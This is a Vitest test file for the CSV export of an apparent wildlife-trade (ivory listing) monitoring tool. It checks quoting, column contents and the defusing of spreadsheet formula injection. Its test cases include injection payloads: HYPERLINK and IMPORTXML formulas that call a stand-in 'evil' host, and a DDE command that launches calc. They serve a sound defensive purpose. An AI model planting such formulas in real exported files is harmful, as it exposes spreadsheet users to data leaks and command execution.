import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '@/lib/files/csv';
import { CSV_COLUMNS, flagsCsv } from '@/lib/export/csv-columns';
import { csvContextOf } from '@/lib/export/json';
import { withClaims } from '@/lib/flags/claim';
import { readCsv } from '../../support/read-csv';
import type { Observation } from '@/lib/records/flag';
import { anna, annasBatch, ben, flag, observation } from './builder';

describe('csvCell', () => {
  it.each([
    ['plain text', 'Elfenbein Figur', '"Elfenbein Figur"'],
    ['comma', 'ivory, carved', '"ivory, carved"'],
    ['quote', 'the "real" thing', '"the ""real"" thing"'],
    ['line feed', 'line1\nline2', '"line1\nline2"'],
    ['carriage return inside', 'a\rb', '"a\rb"'],
    ['formula =', '=HYPERLINK("http://evil","click")', `"'=HYPERLINK(""http://evil"",""click"")"`],
    ['formula +', '+41 79 000', `"'+41 79 000"`],
    ['formula -', '-2+3+cmd|" /C calc"!A0', `"'-2+3+cmd|"" /C calc""!A0"`],
    ['formula @', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['leading tab', '\t=1+1', `"'\t=1+1"`],
    ['leading CR', '\r=1+1', `"'\r'=1+1"`],
    ['formula sign later in text', 'price = 5', '"price = 5"'],
    ['Cyrillic', 'слоновая кость', '"слоновая кость"'],
    ['empty text', '', '""'],
  ])('%s', (_case, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    [450, '450'],
    [0, '0'],
    [12.5, '12.5'],
    [-5, '-5'],
    [Number.NaN, ''],
    [undefined, ''],
  ])('writes the number %s as %j, never prefixed', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('csvText', () => {
  it('starts with a BOM and ends every line with CRLF', () => {
    expect(
      csvText([
        ['a', 'b'],
        ['c,d', 1],
      ]),
    ).toBe('\uFEFF"a","b"\r\n"c,d",1\r\n');
  });
});

describe('flagsCsv', () => {
  it('writes the header from the column table and one row per flag', async () => {
    const { doc } = await annasBatch();
    const rows = readCsv(flagsCsv(doc.flags, csvContextOf(doc)).slice(1));
    expect(rows[0]).toEqual(CSV_COLUMNS.map((column) => column.name));
    expect(rows).toHaveLength(1 + doc.flags.length);
    expect(rows.every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
  });

  it('fills the columns from the flag', async () => {
    const { doc } = await annasBatch();
    const [header, first] = readCsv(flagsCsv(doc.flags, csvContextOf(doc)).slice(1));
    const cell = (name: string) => first![header!.indexOf(name)];
    const screenshots = doc.flags[0]!.observations[0]!.artifacts.filter((ref) => ref.kind === 'screenshot');
    expect({
      batch: cell('batch_id'),
      price: cell('price_amount'),
      observations: cell('observations'),
      first: cell('first_captured_at'),
      last: cell('last_captured_at'),
      taxa: cell('detected_taxa'),
      appendices: cell('appendices'),
      screenshots: cell('screenshot_sha256'),
      records: cell('record_sha256')!.split('; ').length,
    }).toEqual({
      batch: doc.batch.id,
      price: '450',
      observations: '2',
      first: '2026-03-10T09:30:00.000Z',
      last: '2026-03-12T10:00:00.000Z',
      taxa: 'Loxodonta africana',
      appendices: 'I/II',
      screenshots: screenshots[0]!.sha256,
      records: 2,
    });
  });

  it('lists what pages did to Spoor’s highlights over every observation, once each (forge18)', async () => {
    const tampered = (paintTampering: Observation['paintTampering'], n: number) =>
      observation({ n, by: anna }).then((made) => ({ ...made, paintTampering }));
    const read = flag({
      n: 9,
      observations: [await tampered(['restyled', 'covered'], 1), await tampered(['covered'], 2)],
    });
    const plain = flag({ n: 10, observations: [await observation({ n: 3, by: anna })] });
    const [header, ...rows] = readCsv(flagsCsv([read, plain], { batchId: 'b', taxa: () => undefined }).slice(1));
    const column = header!.indexOf('paint_tampering');
    expect(rows.map((row) => row[column])).toEqual(['restyled; covered', '']);
  });

  it('says where the reading of a page’s text was cut, and where not', async () => {
    const cut = { reason: 'nodes', characters: 412_345, after: 'Zeile 24998\nZeile 24999' } as const;
    const read = flag({
      n: 11,
      observations: [await observation({ n: 4, by: anna }).then((made) => ({ ...made, textCut: cut }))],
    });
    const whole = flag({ n: 12, observations: [await observation({ n: 5, by: anna })] });
    const [header, ...rows] = readCsv(flagsCsv([read, whole], { batchId: 'b', taxa: () => undefined }).slice(1));
    const column = header!.indexOf('text_cut');
    expect(rows.map((row) => row[column])).toEqual(['nodes after 412345: …Zeile 24998\nZeile 24999', '']);
  });

  it('lists what read otherwise once the evidence was taken, over every observation, once each', async () => {
    const changed = (changedDuringCapture: string[], n: number) =>
      observation({ n, by: anna }).then((made) => ({ ...made, changedDuringCapture }));
    const read = flag({ n: 13, observations: [await changed(['price', 'text'], 6), await changed(['text'], 7)] });
    const still = flag({ n: 14, observations: [await observation({ n: 8, by: anna })] });
    const [header, ...rows] = readCsv(flagsCsv([read, still], { batchId: 'b', taxa: () => undefined }).slice(1));
    const column = header!.indexOf('changed_during_capture');
    expect(rows.map((row) => row[column])).toEqual(['price; text', '']);
  });

  it('lists the languages the observations’ pages declared, once each, leaving out pages that declared none', async () => {
    const declaring = (pageLang: string | undefined, n: number) =>
      observation({ n, by: anna }).then((made) => ({ ...made, ...(pageLang && { pageLang }) }));
    const read = flag({
      n: 15,
      observations: [await declaring('de-AT', 9), await declaring(undefined, 10), await declaring('de-AT', 11)],
    });
    const older = flag({ n: 16, observations: [await declaring(undefined, 12)] });
    const [header, ...rows] = readCsv(flagsCsv([read, older], { batchId: 'b', taxa: () => undefined }).slice(1));
    expect(header!.at(-1)).toBe('page_lang');
    expect(rows.map((row) => row.at(-1))).toEqual(['de-AT', '']);
  });

  it('says where each field came from: inferred currency, the page’s date words, the paperwork claim, a foreign canonical', async () => {
    const read = flag({
      n: 8,
      ad: {
        price: { amount: 450, currency: 'EUR', currencyInferred: true },
        postedAt: '2026-03-10',
        postedText: 'vor 2 Tagen',
        paperworkClaim: { claim: 'none', phrase: 'ohne CITES Papiere' },
        claimedCanonical: 'https://seller-b.github.io/cups',
        sources: { title: 'json-ld', price: 'visible' },
        confidence: { title: 0.9, price: 0.7 },
      },
      observations: [await observation({ n: 1, by: anna })],
    });
    const [header, row] = readCsv(flagsCsv([read], { batchId: 'b', taxa: () => undefined }).slice(1));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(
      [
        'currency_inferred',
        'posted_at',
        'posted_text',
        'paperwork_claim',
        'paperwork_evidence',
        'claimed_canonical_url',
        'field_sources',
      ].map(cell),
    ).toEqual([
      'yes',
      '2026-03-10',
      'vor 2 Tagen',
      'none',
      'ohne CITES Papiere',
      'https://seller-b.github.io/cups',
      'title=json-ld 0.9; price=visible 0.7',
    ]);
  });

  it('says in field_sources what another source gave for a disputed field', async () => {
    const disputed = flag({
      n: 10,
      ad: {
        price: { amount: 320, currency: 'EUR' },
        sources: { price: 'visible' },
        confidence: { price: 0.85 },
        disputed: { price: { source: 'json-ld', value: '5 EUR' } },
      },
      observations: [await observation({ n: 1, by: anna })],
    });
    const [header, row] = readCsv(flagsCsv([disputed], { batchId: 'b', taxa: () => undefined }).slice(1));
    expect(row![header!.indexOf('field_sources')]).toBe('price=visible 0.85 (json-ld said 5 EUR)');
  });

  it('lists every researcher and neutralises hostile ad text', async () => {
    const hostile = flag({
      n: 9,
      ad: {
        title: '=IMPORTXML("http://evil","//a")',
        seller: { name: '@admin', id: '-1' },
        price: { amount: 0, currency: 'EUR' },
      },
      assessment: { notes: '+ call seller, "urgent"' },
      observations: [await observation({ n: 1, by: anna }), await observation({ n: 2, by: ben })],
    });
    const [header, row] = readCsv(flagsCsv([hostile], { batchId: 'b', taxa: () => undefined }).slice(1));
    const cell = (name: string) => row![header!.indexOf(name)];
    expect([
      cell('title'),
      cell('seller_name'),
      cell('seller_id'),
      cell('notes'),
      cell('price_amount'),
      cell('researchers'),
    ]).toEqual([
      `'=IMPORTXML("http://evil","//a")`,
      "'@admin",
      "'-1",
      `'+ call seller, "urgent"`,
      '0',
      'anna.k; ben.o',
    ]);
  });
});

describe('claimed captures', () => {
  it('name the researcher who claimed them in researchers and survey; the capture still says nobody', async () => {
    const unnamed = await observation({ n: 1, by: { researcherId: '', survey: '' } });
    const made = flag({ n: 1, observations: [unnamed] });
    const claimed = withClaims(made, { researcherId: 'anna.k', survey: 'Ivory 2026' }, '2026-04-01T00:00:00.000Z');
    const read = (value: ReturnType<typeof flag>) => {
      const [header, row] = readCsv(flagsCsv([value], { batchId: 'b', taxa: () => undefined }).slice(1));
      return [row![header!.indexOf('researchers')], row![header!.indexOf('survey')]];
    };
    expect(read(made)).toEqual(['', '']);
    expect(read(claimed)).toEqual(['anna.k', 'Ivory 2026']);
    expect(claimed.observations).toEqual(made.observations);
  });
});
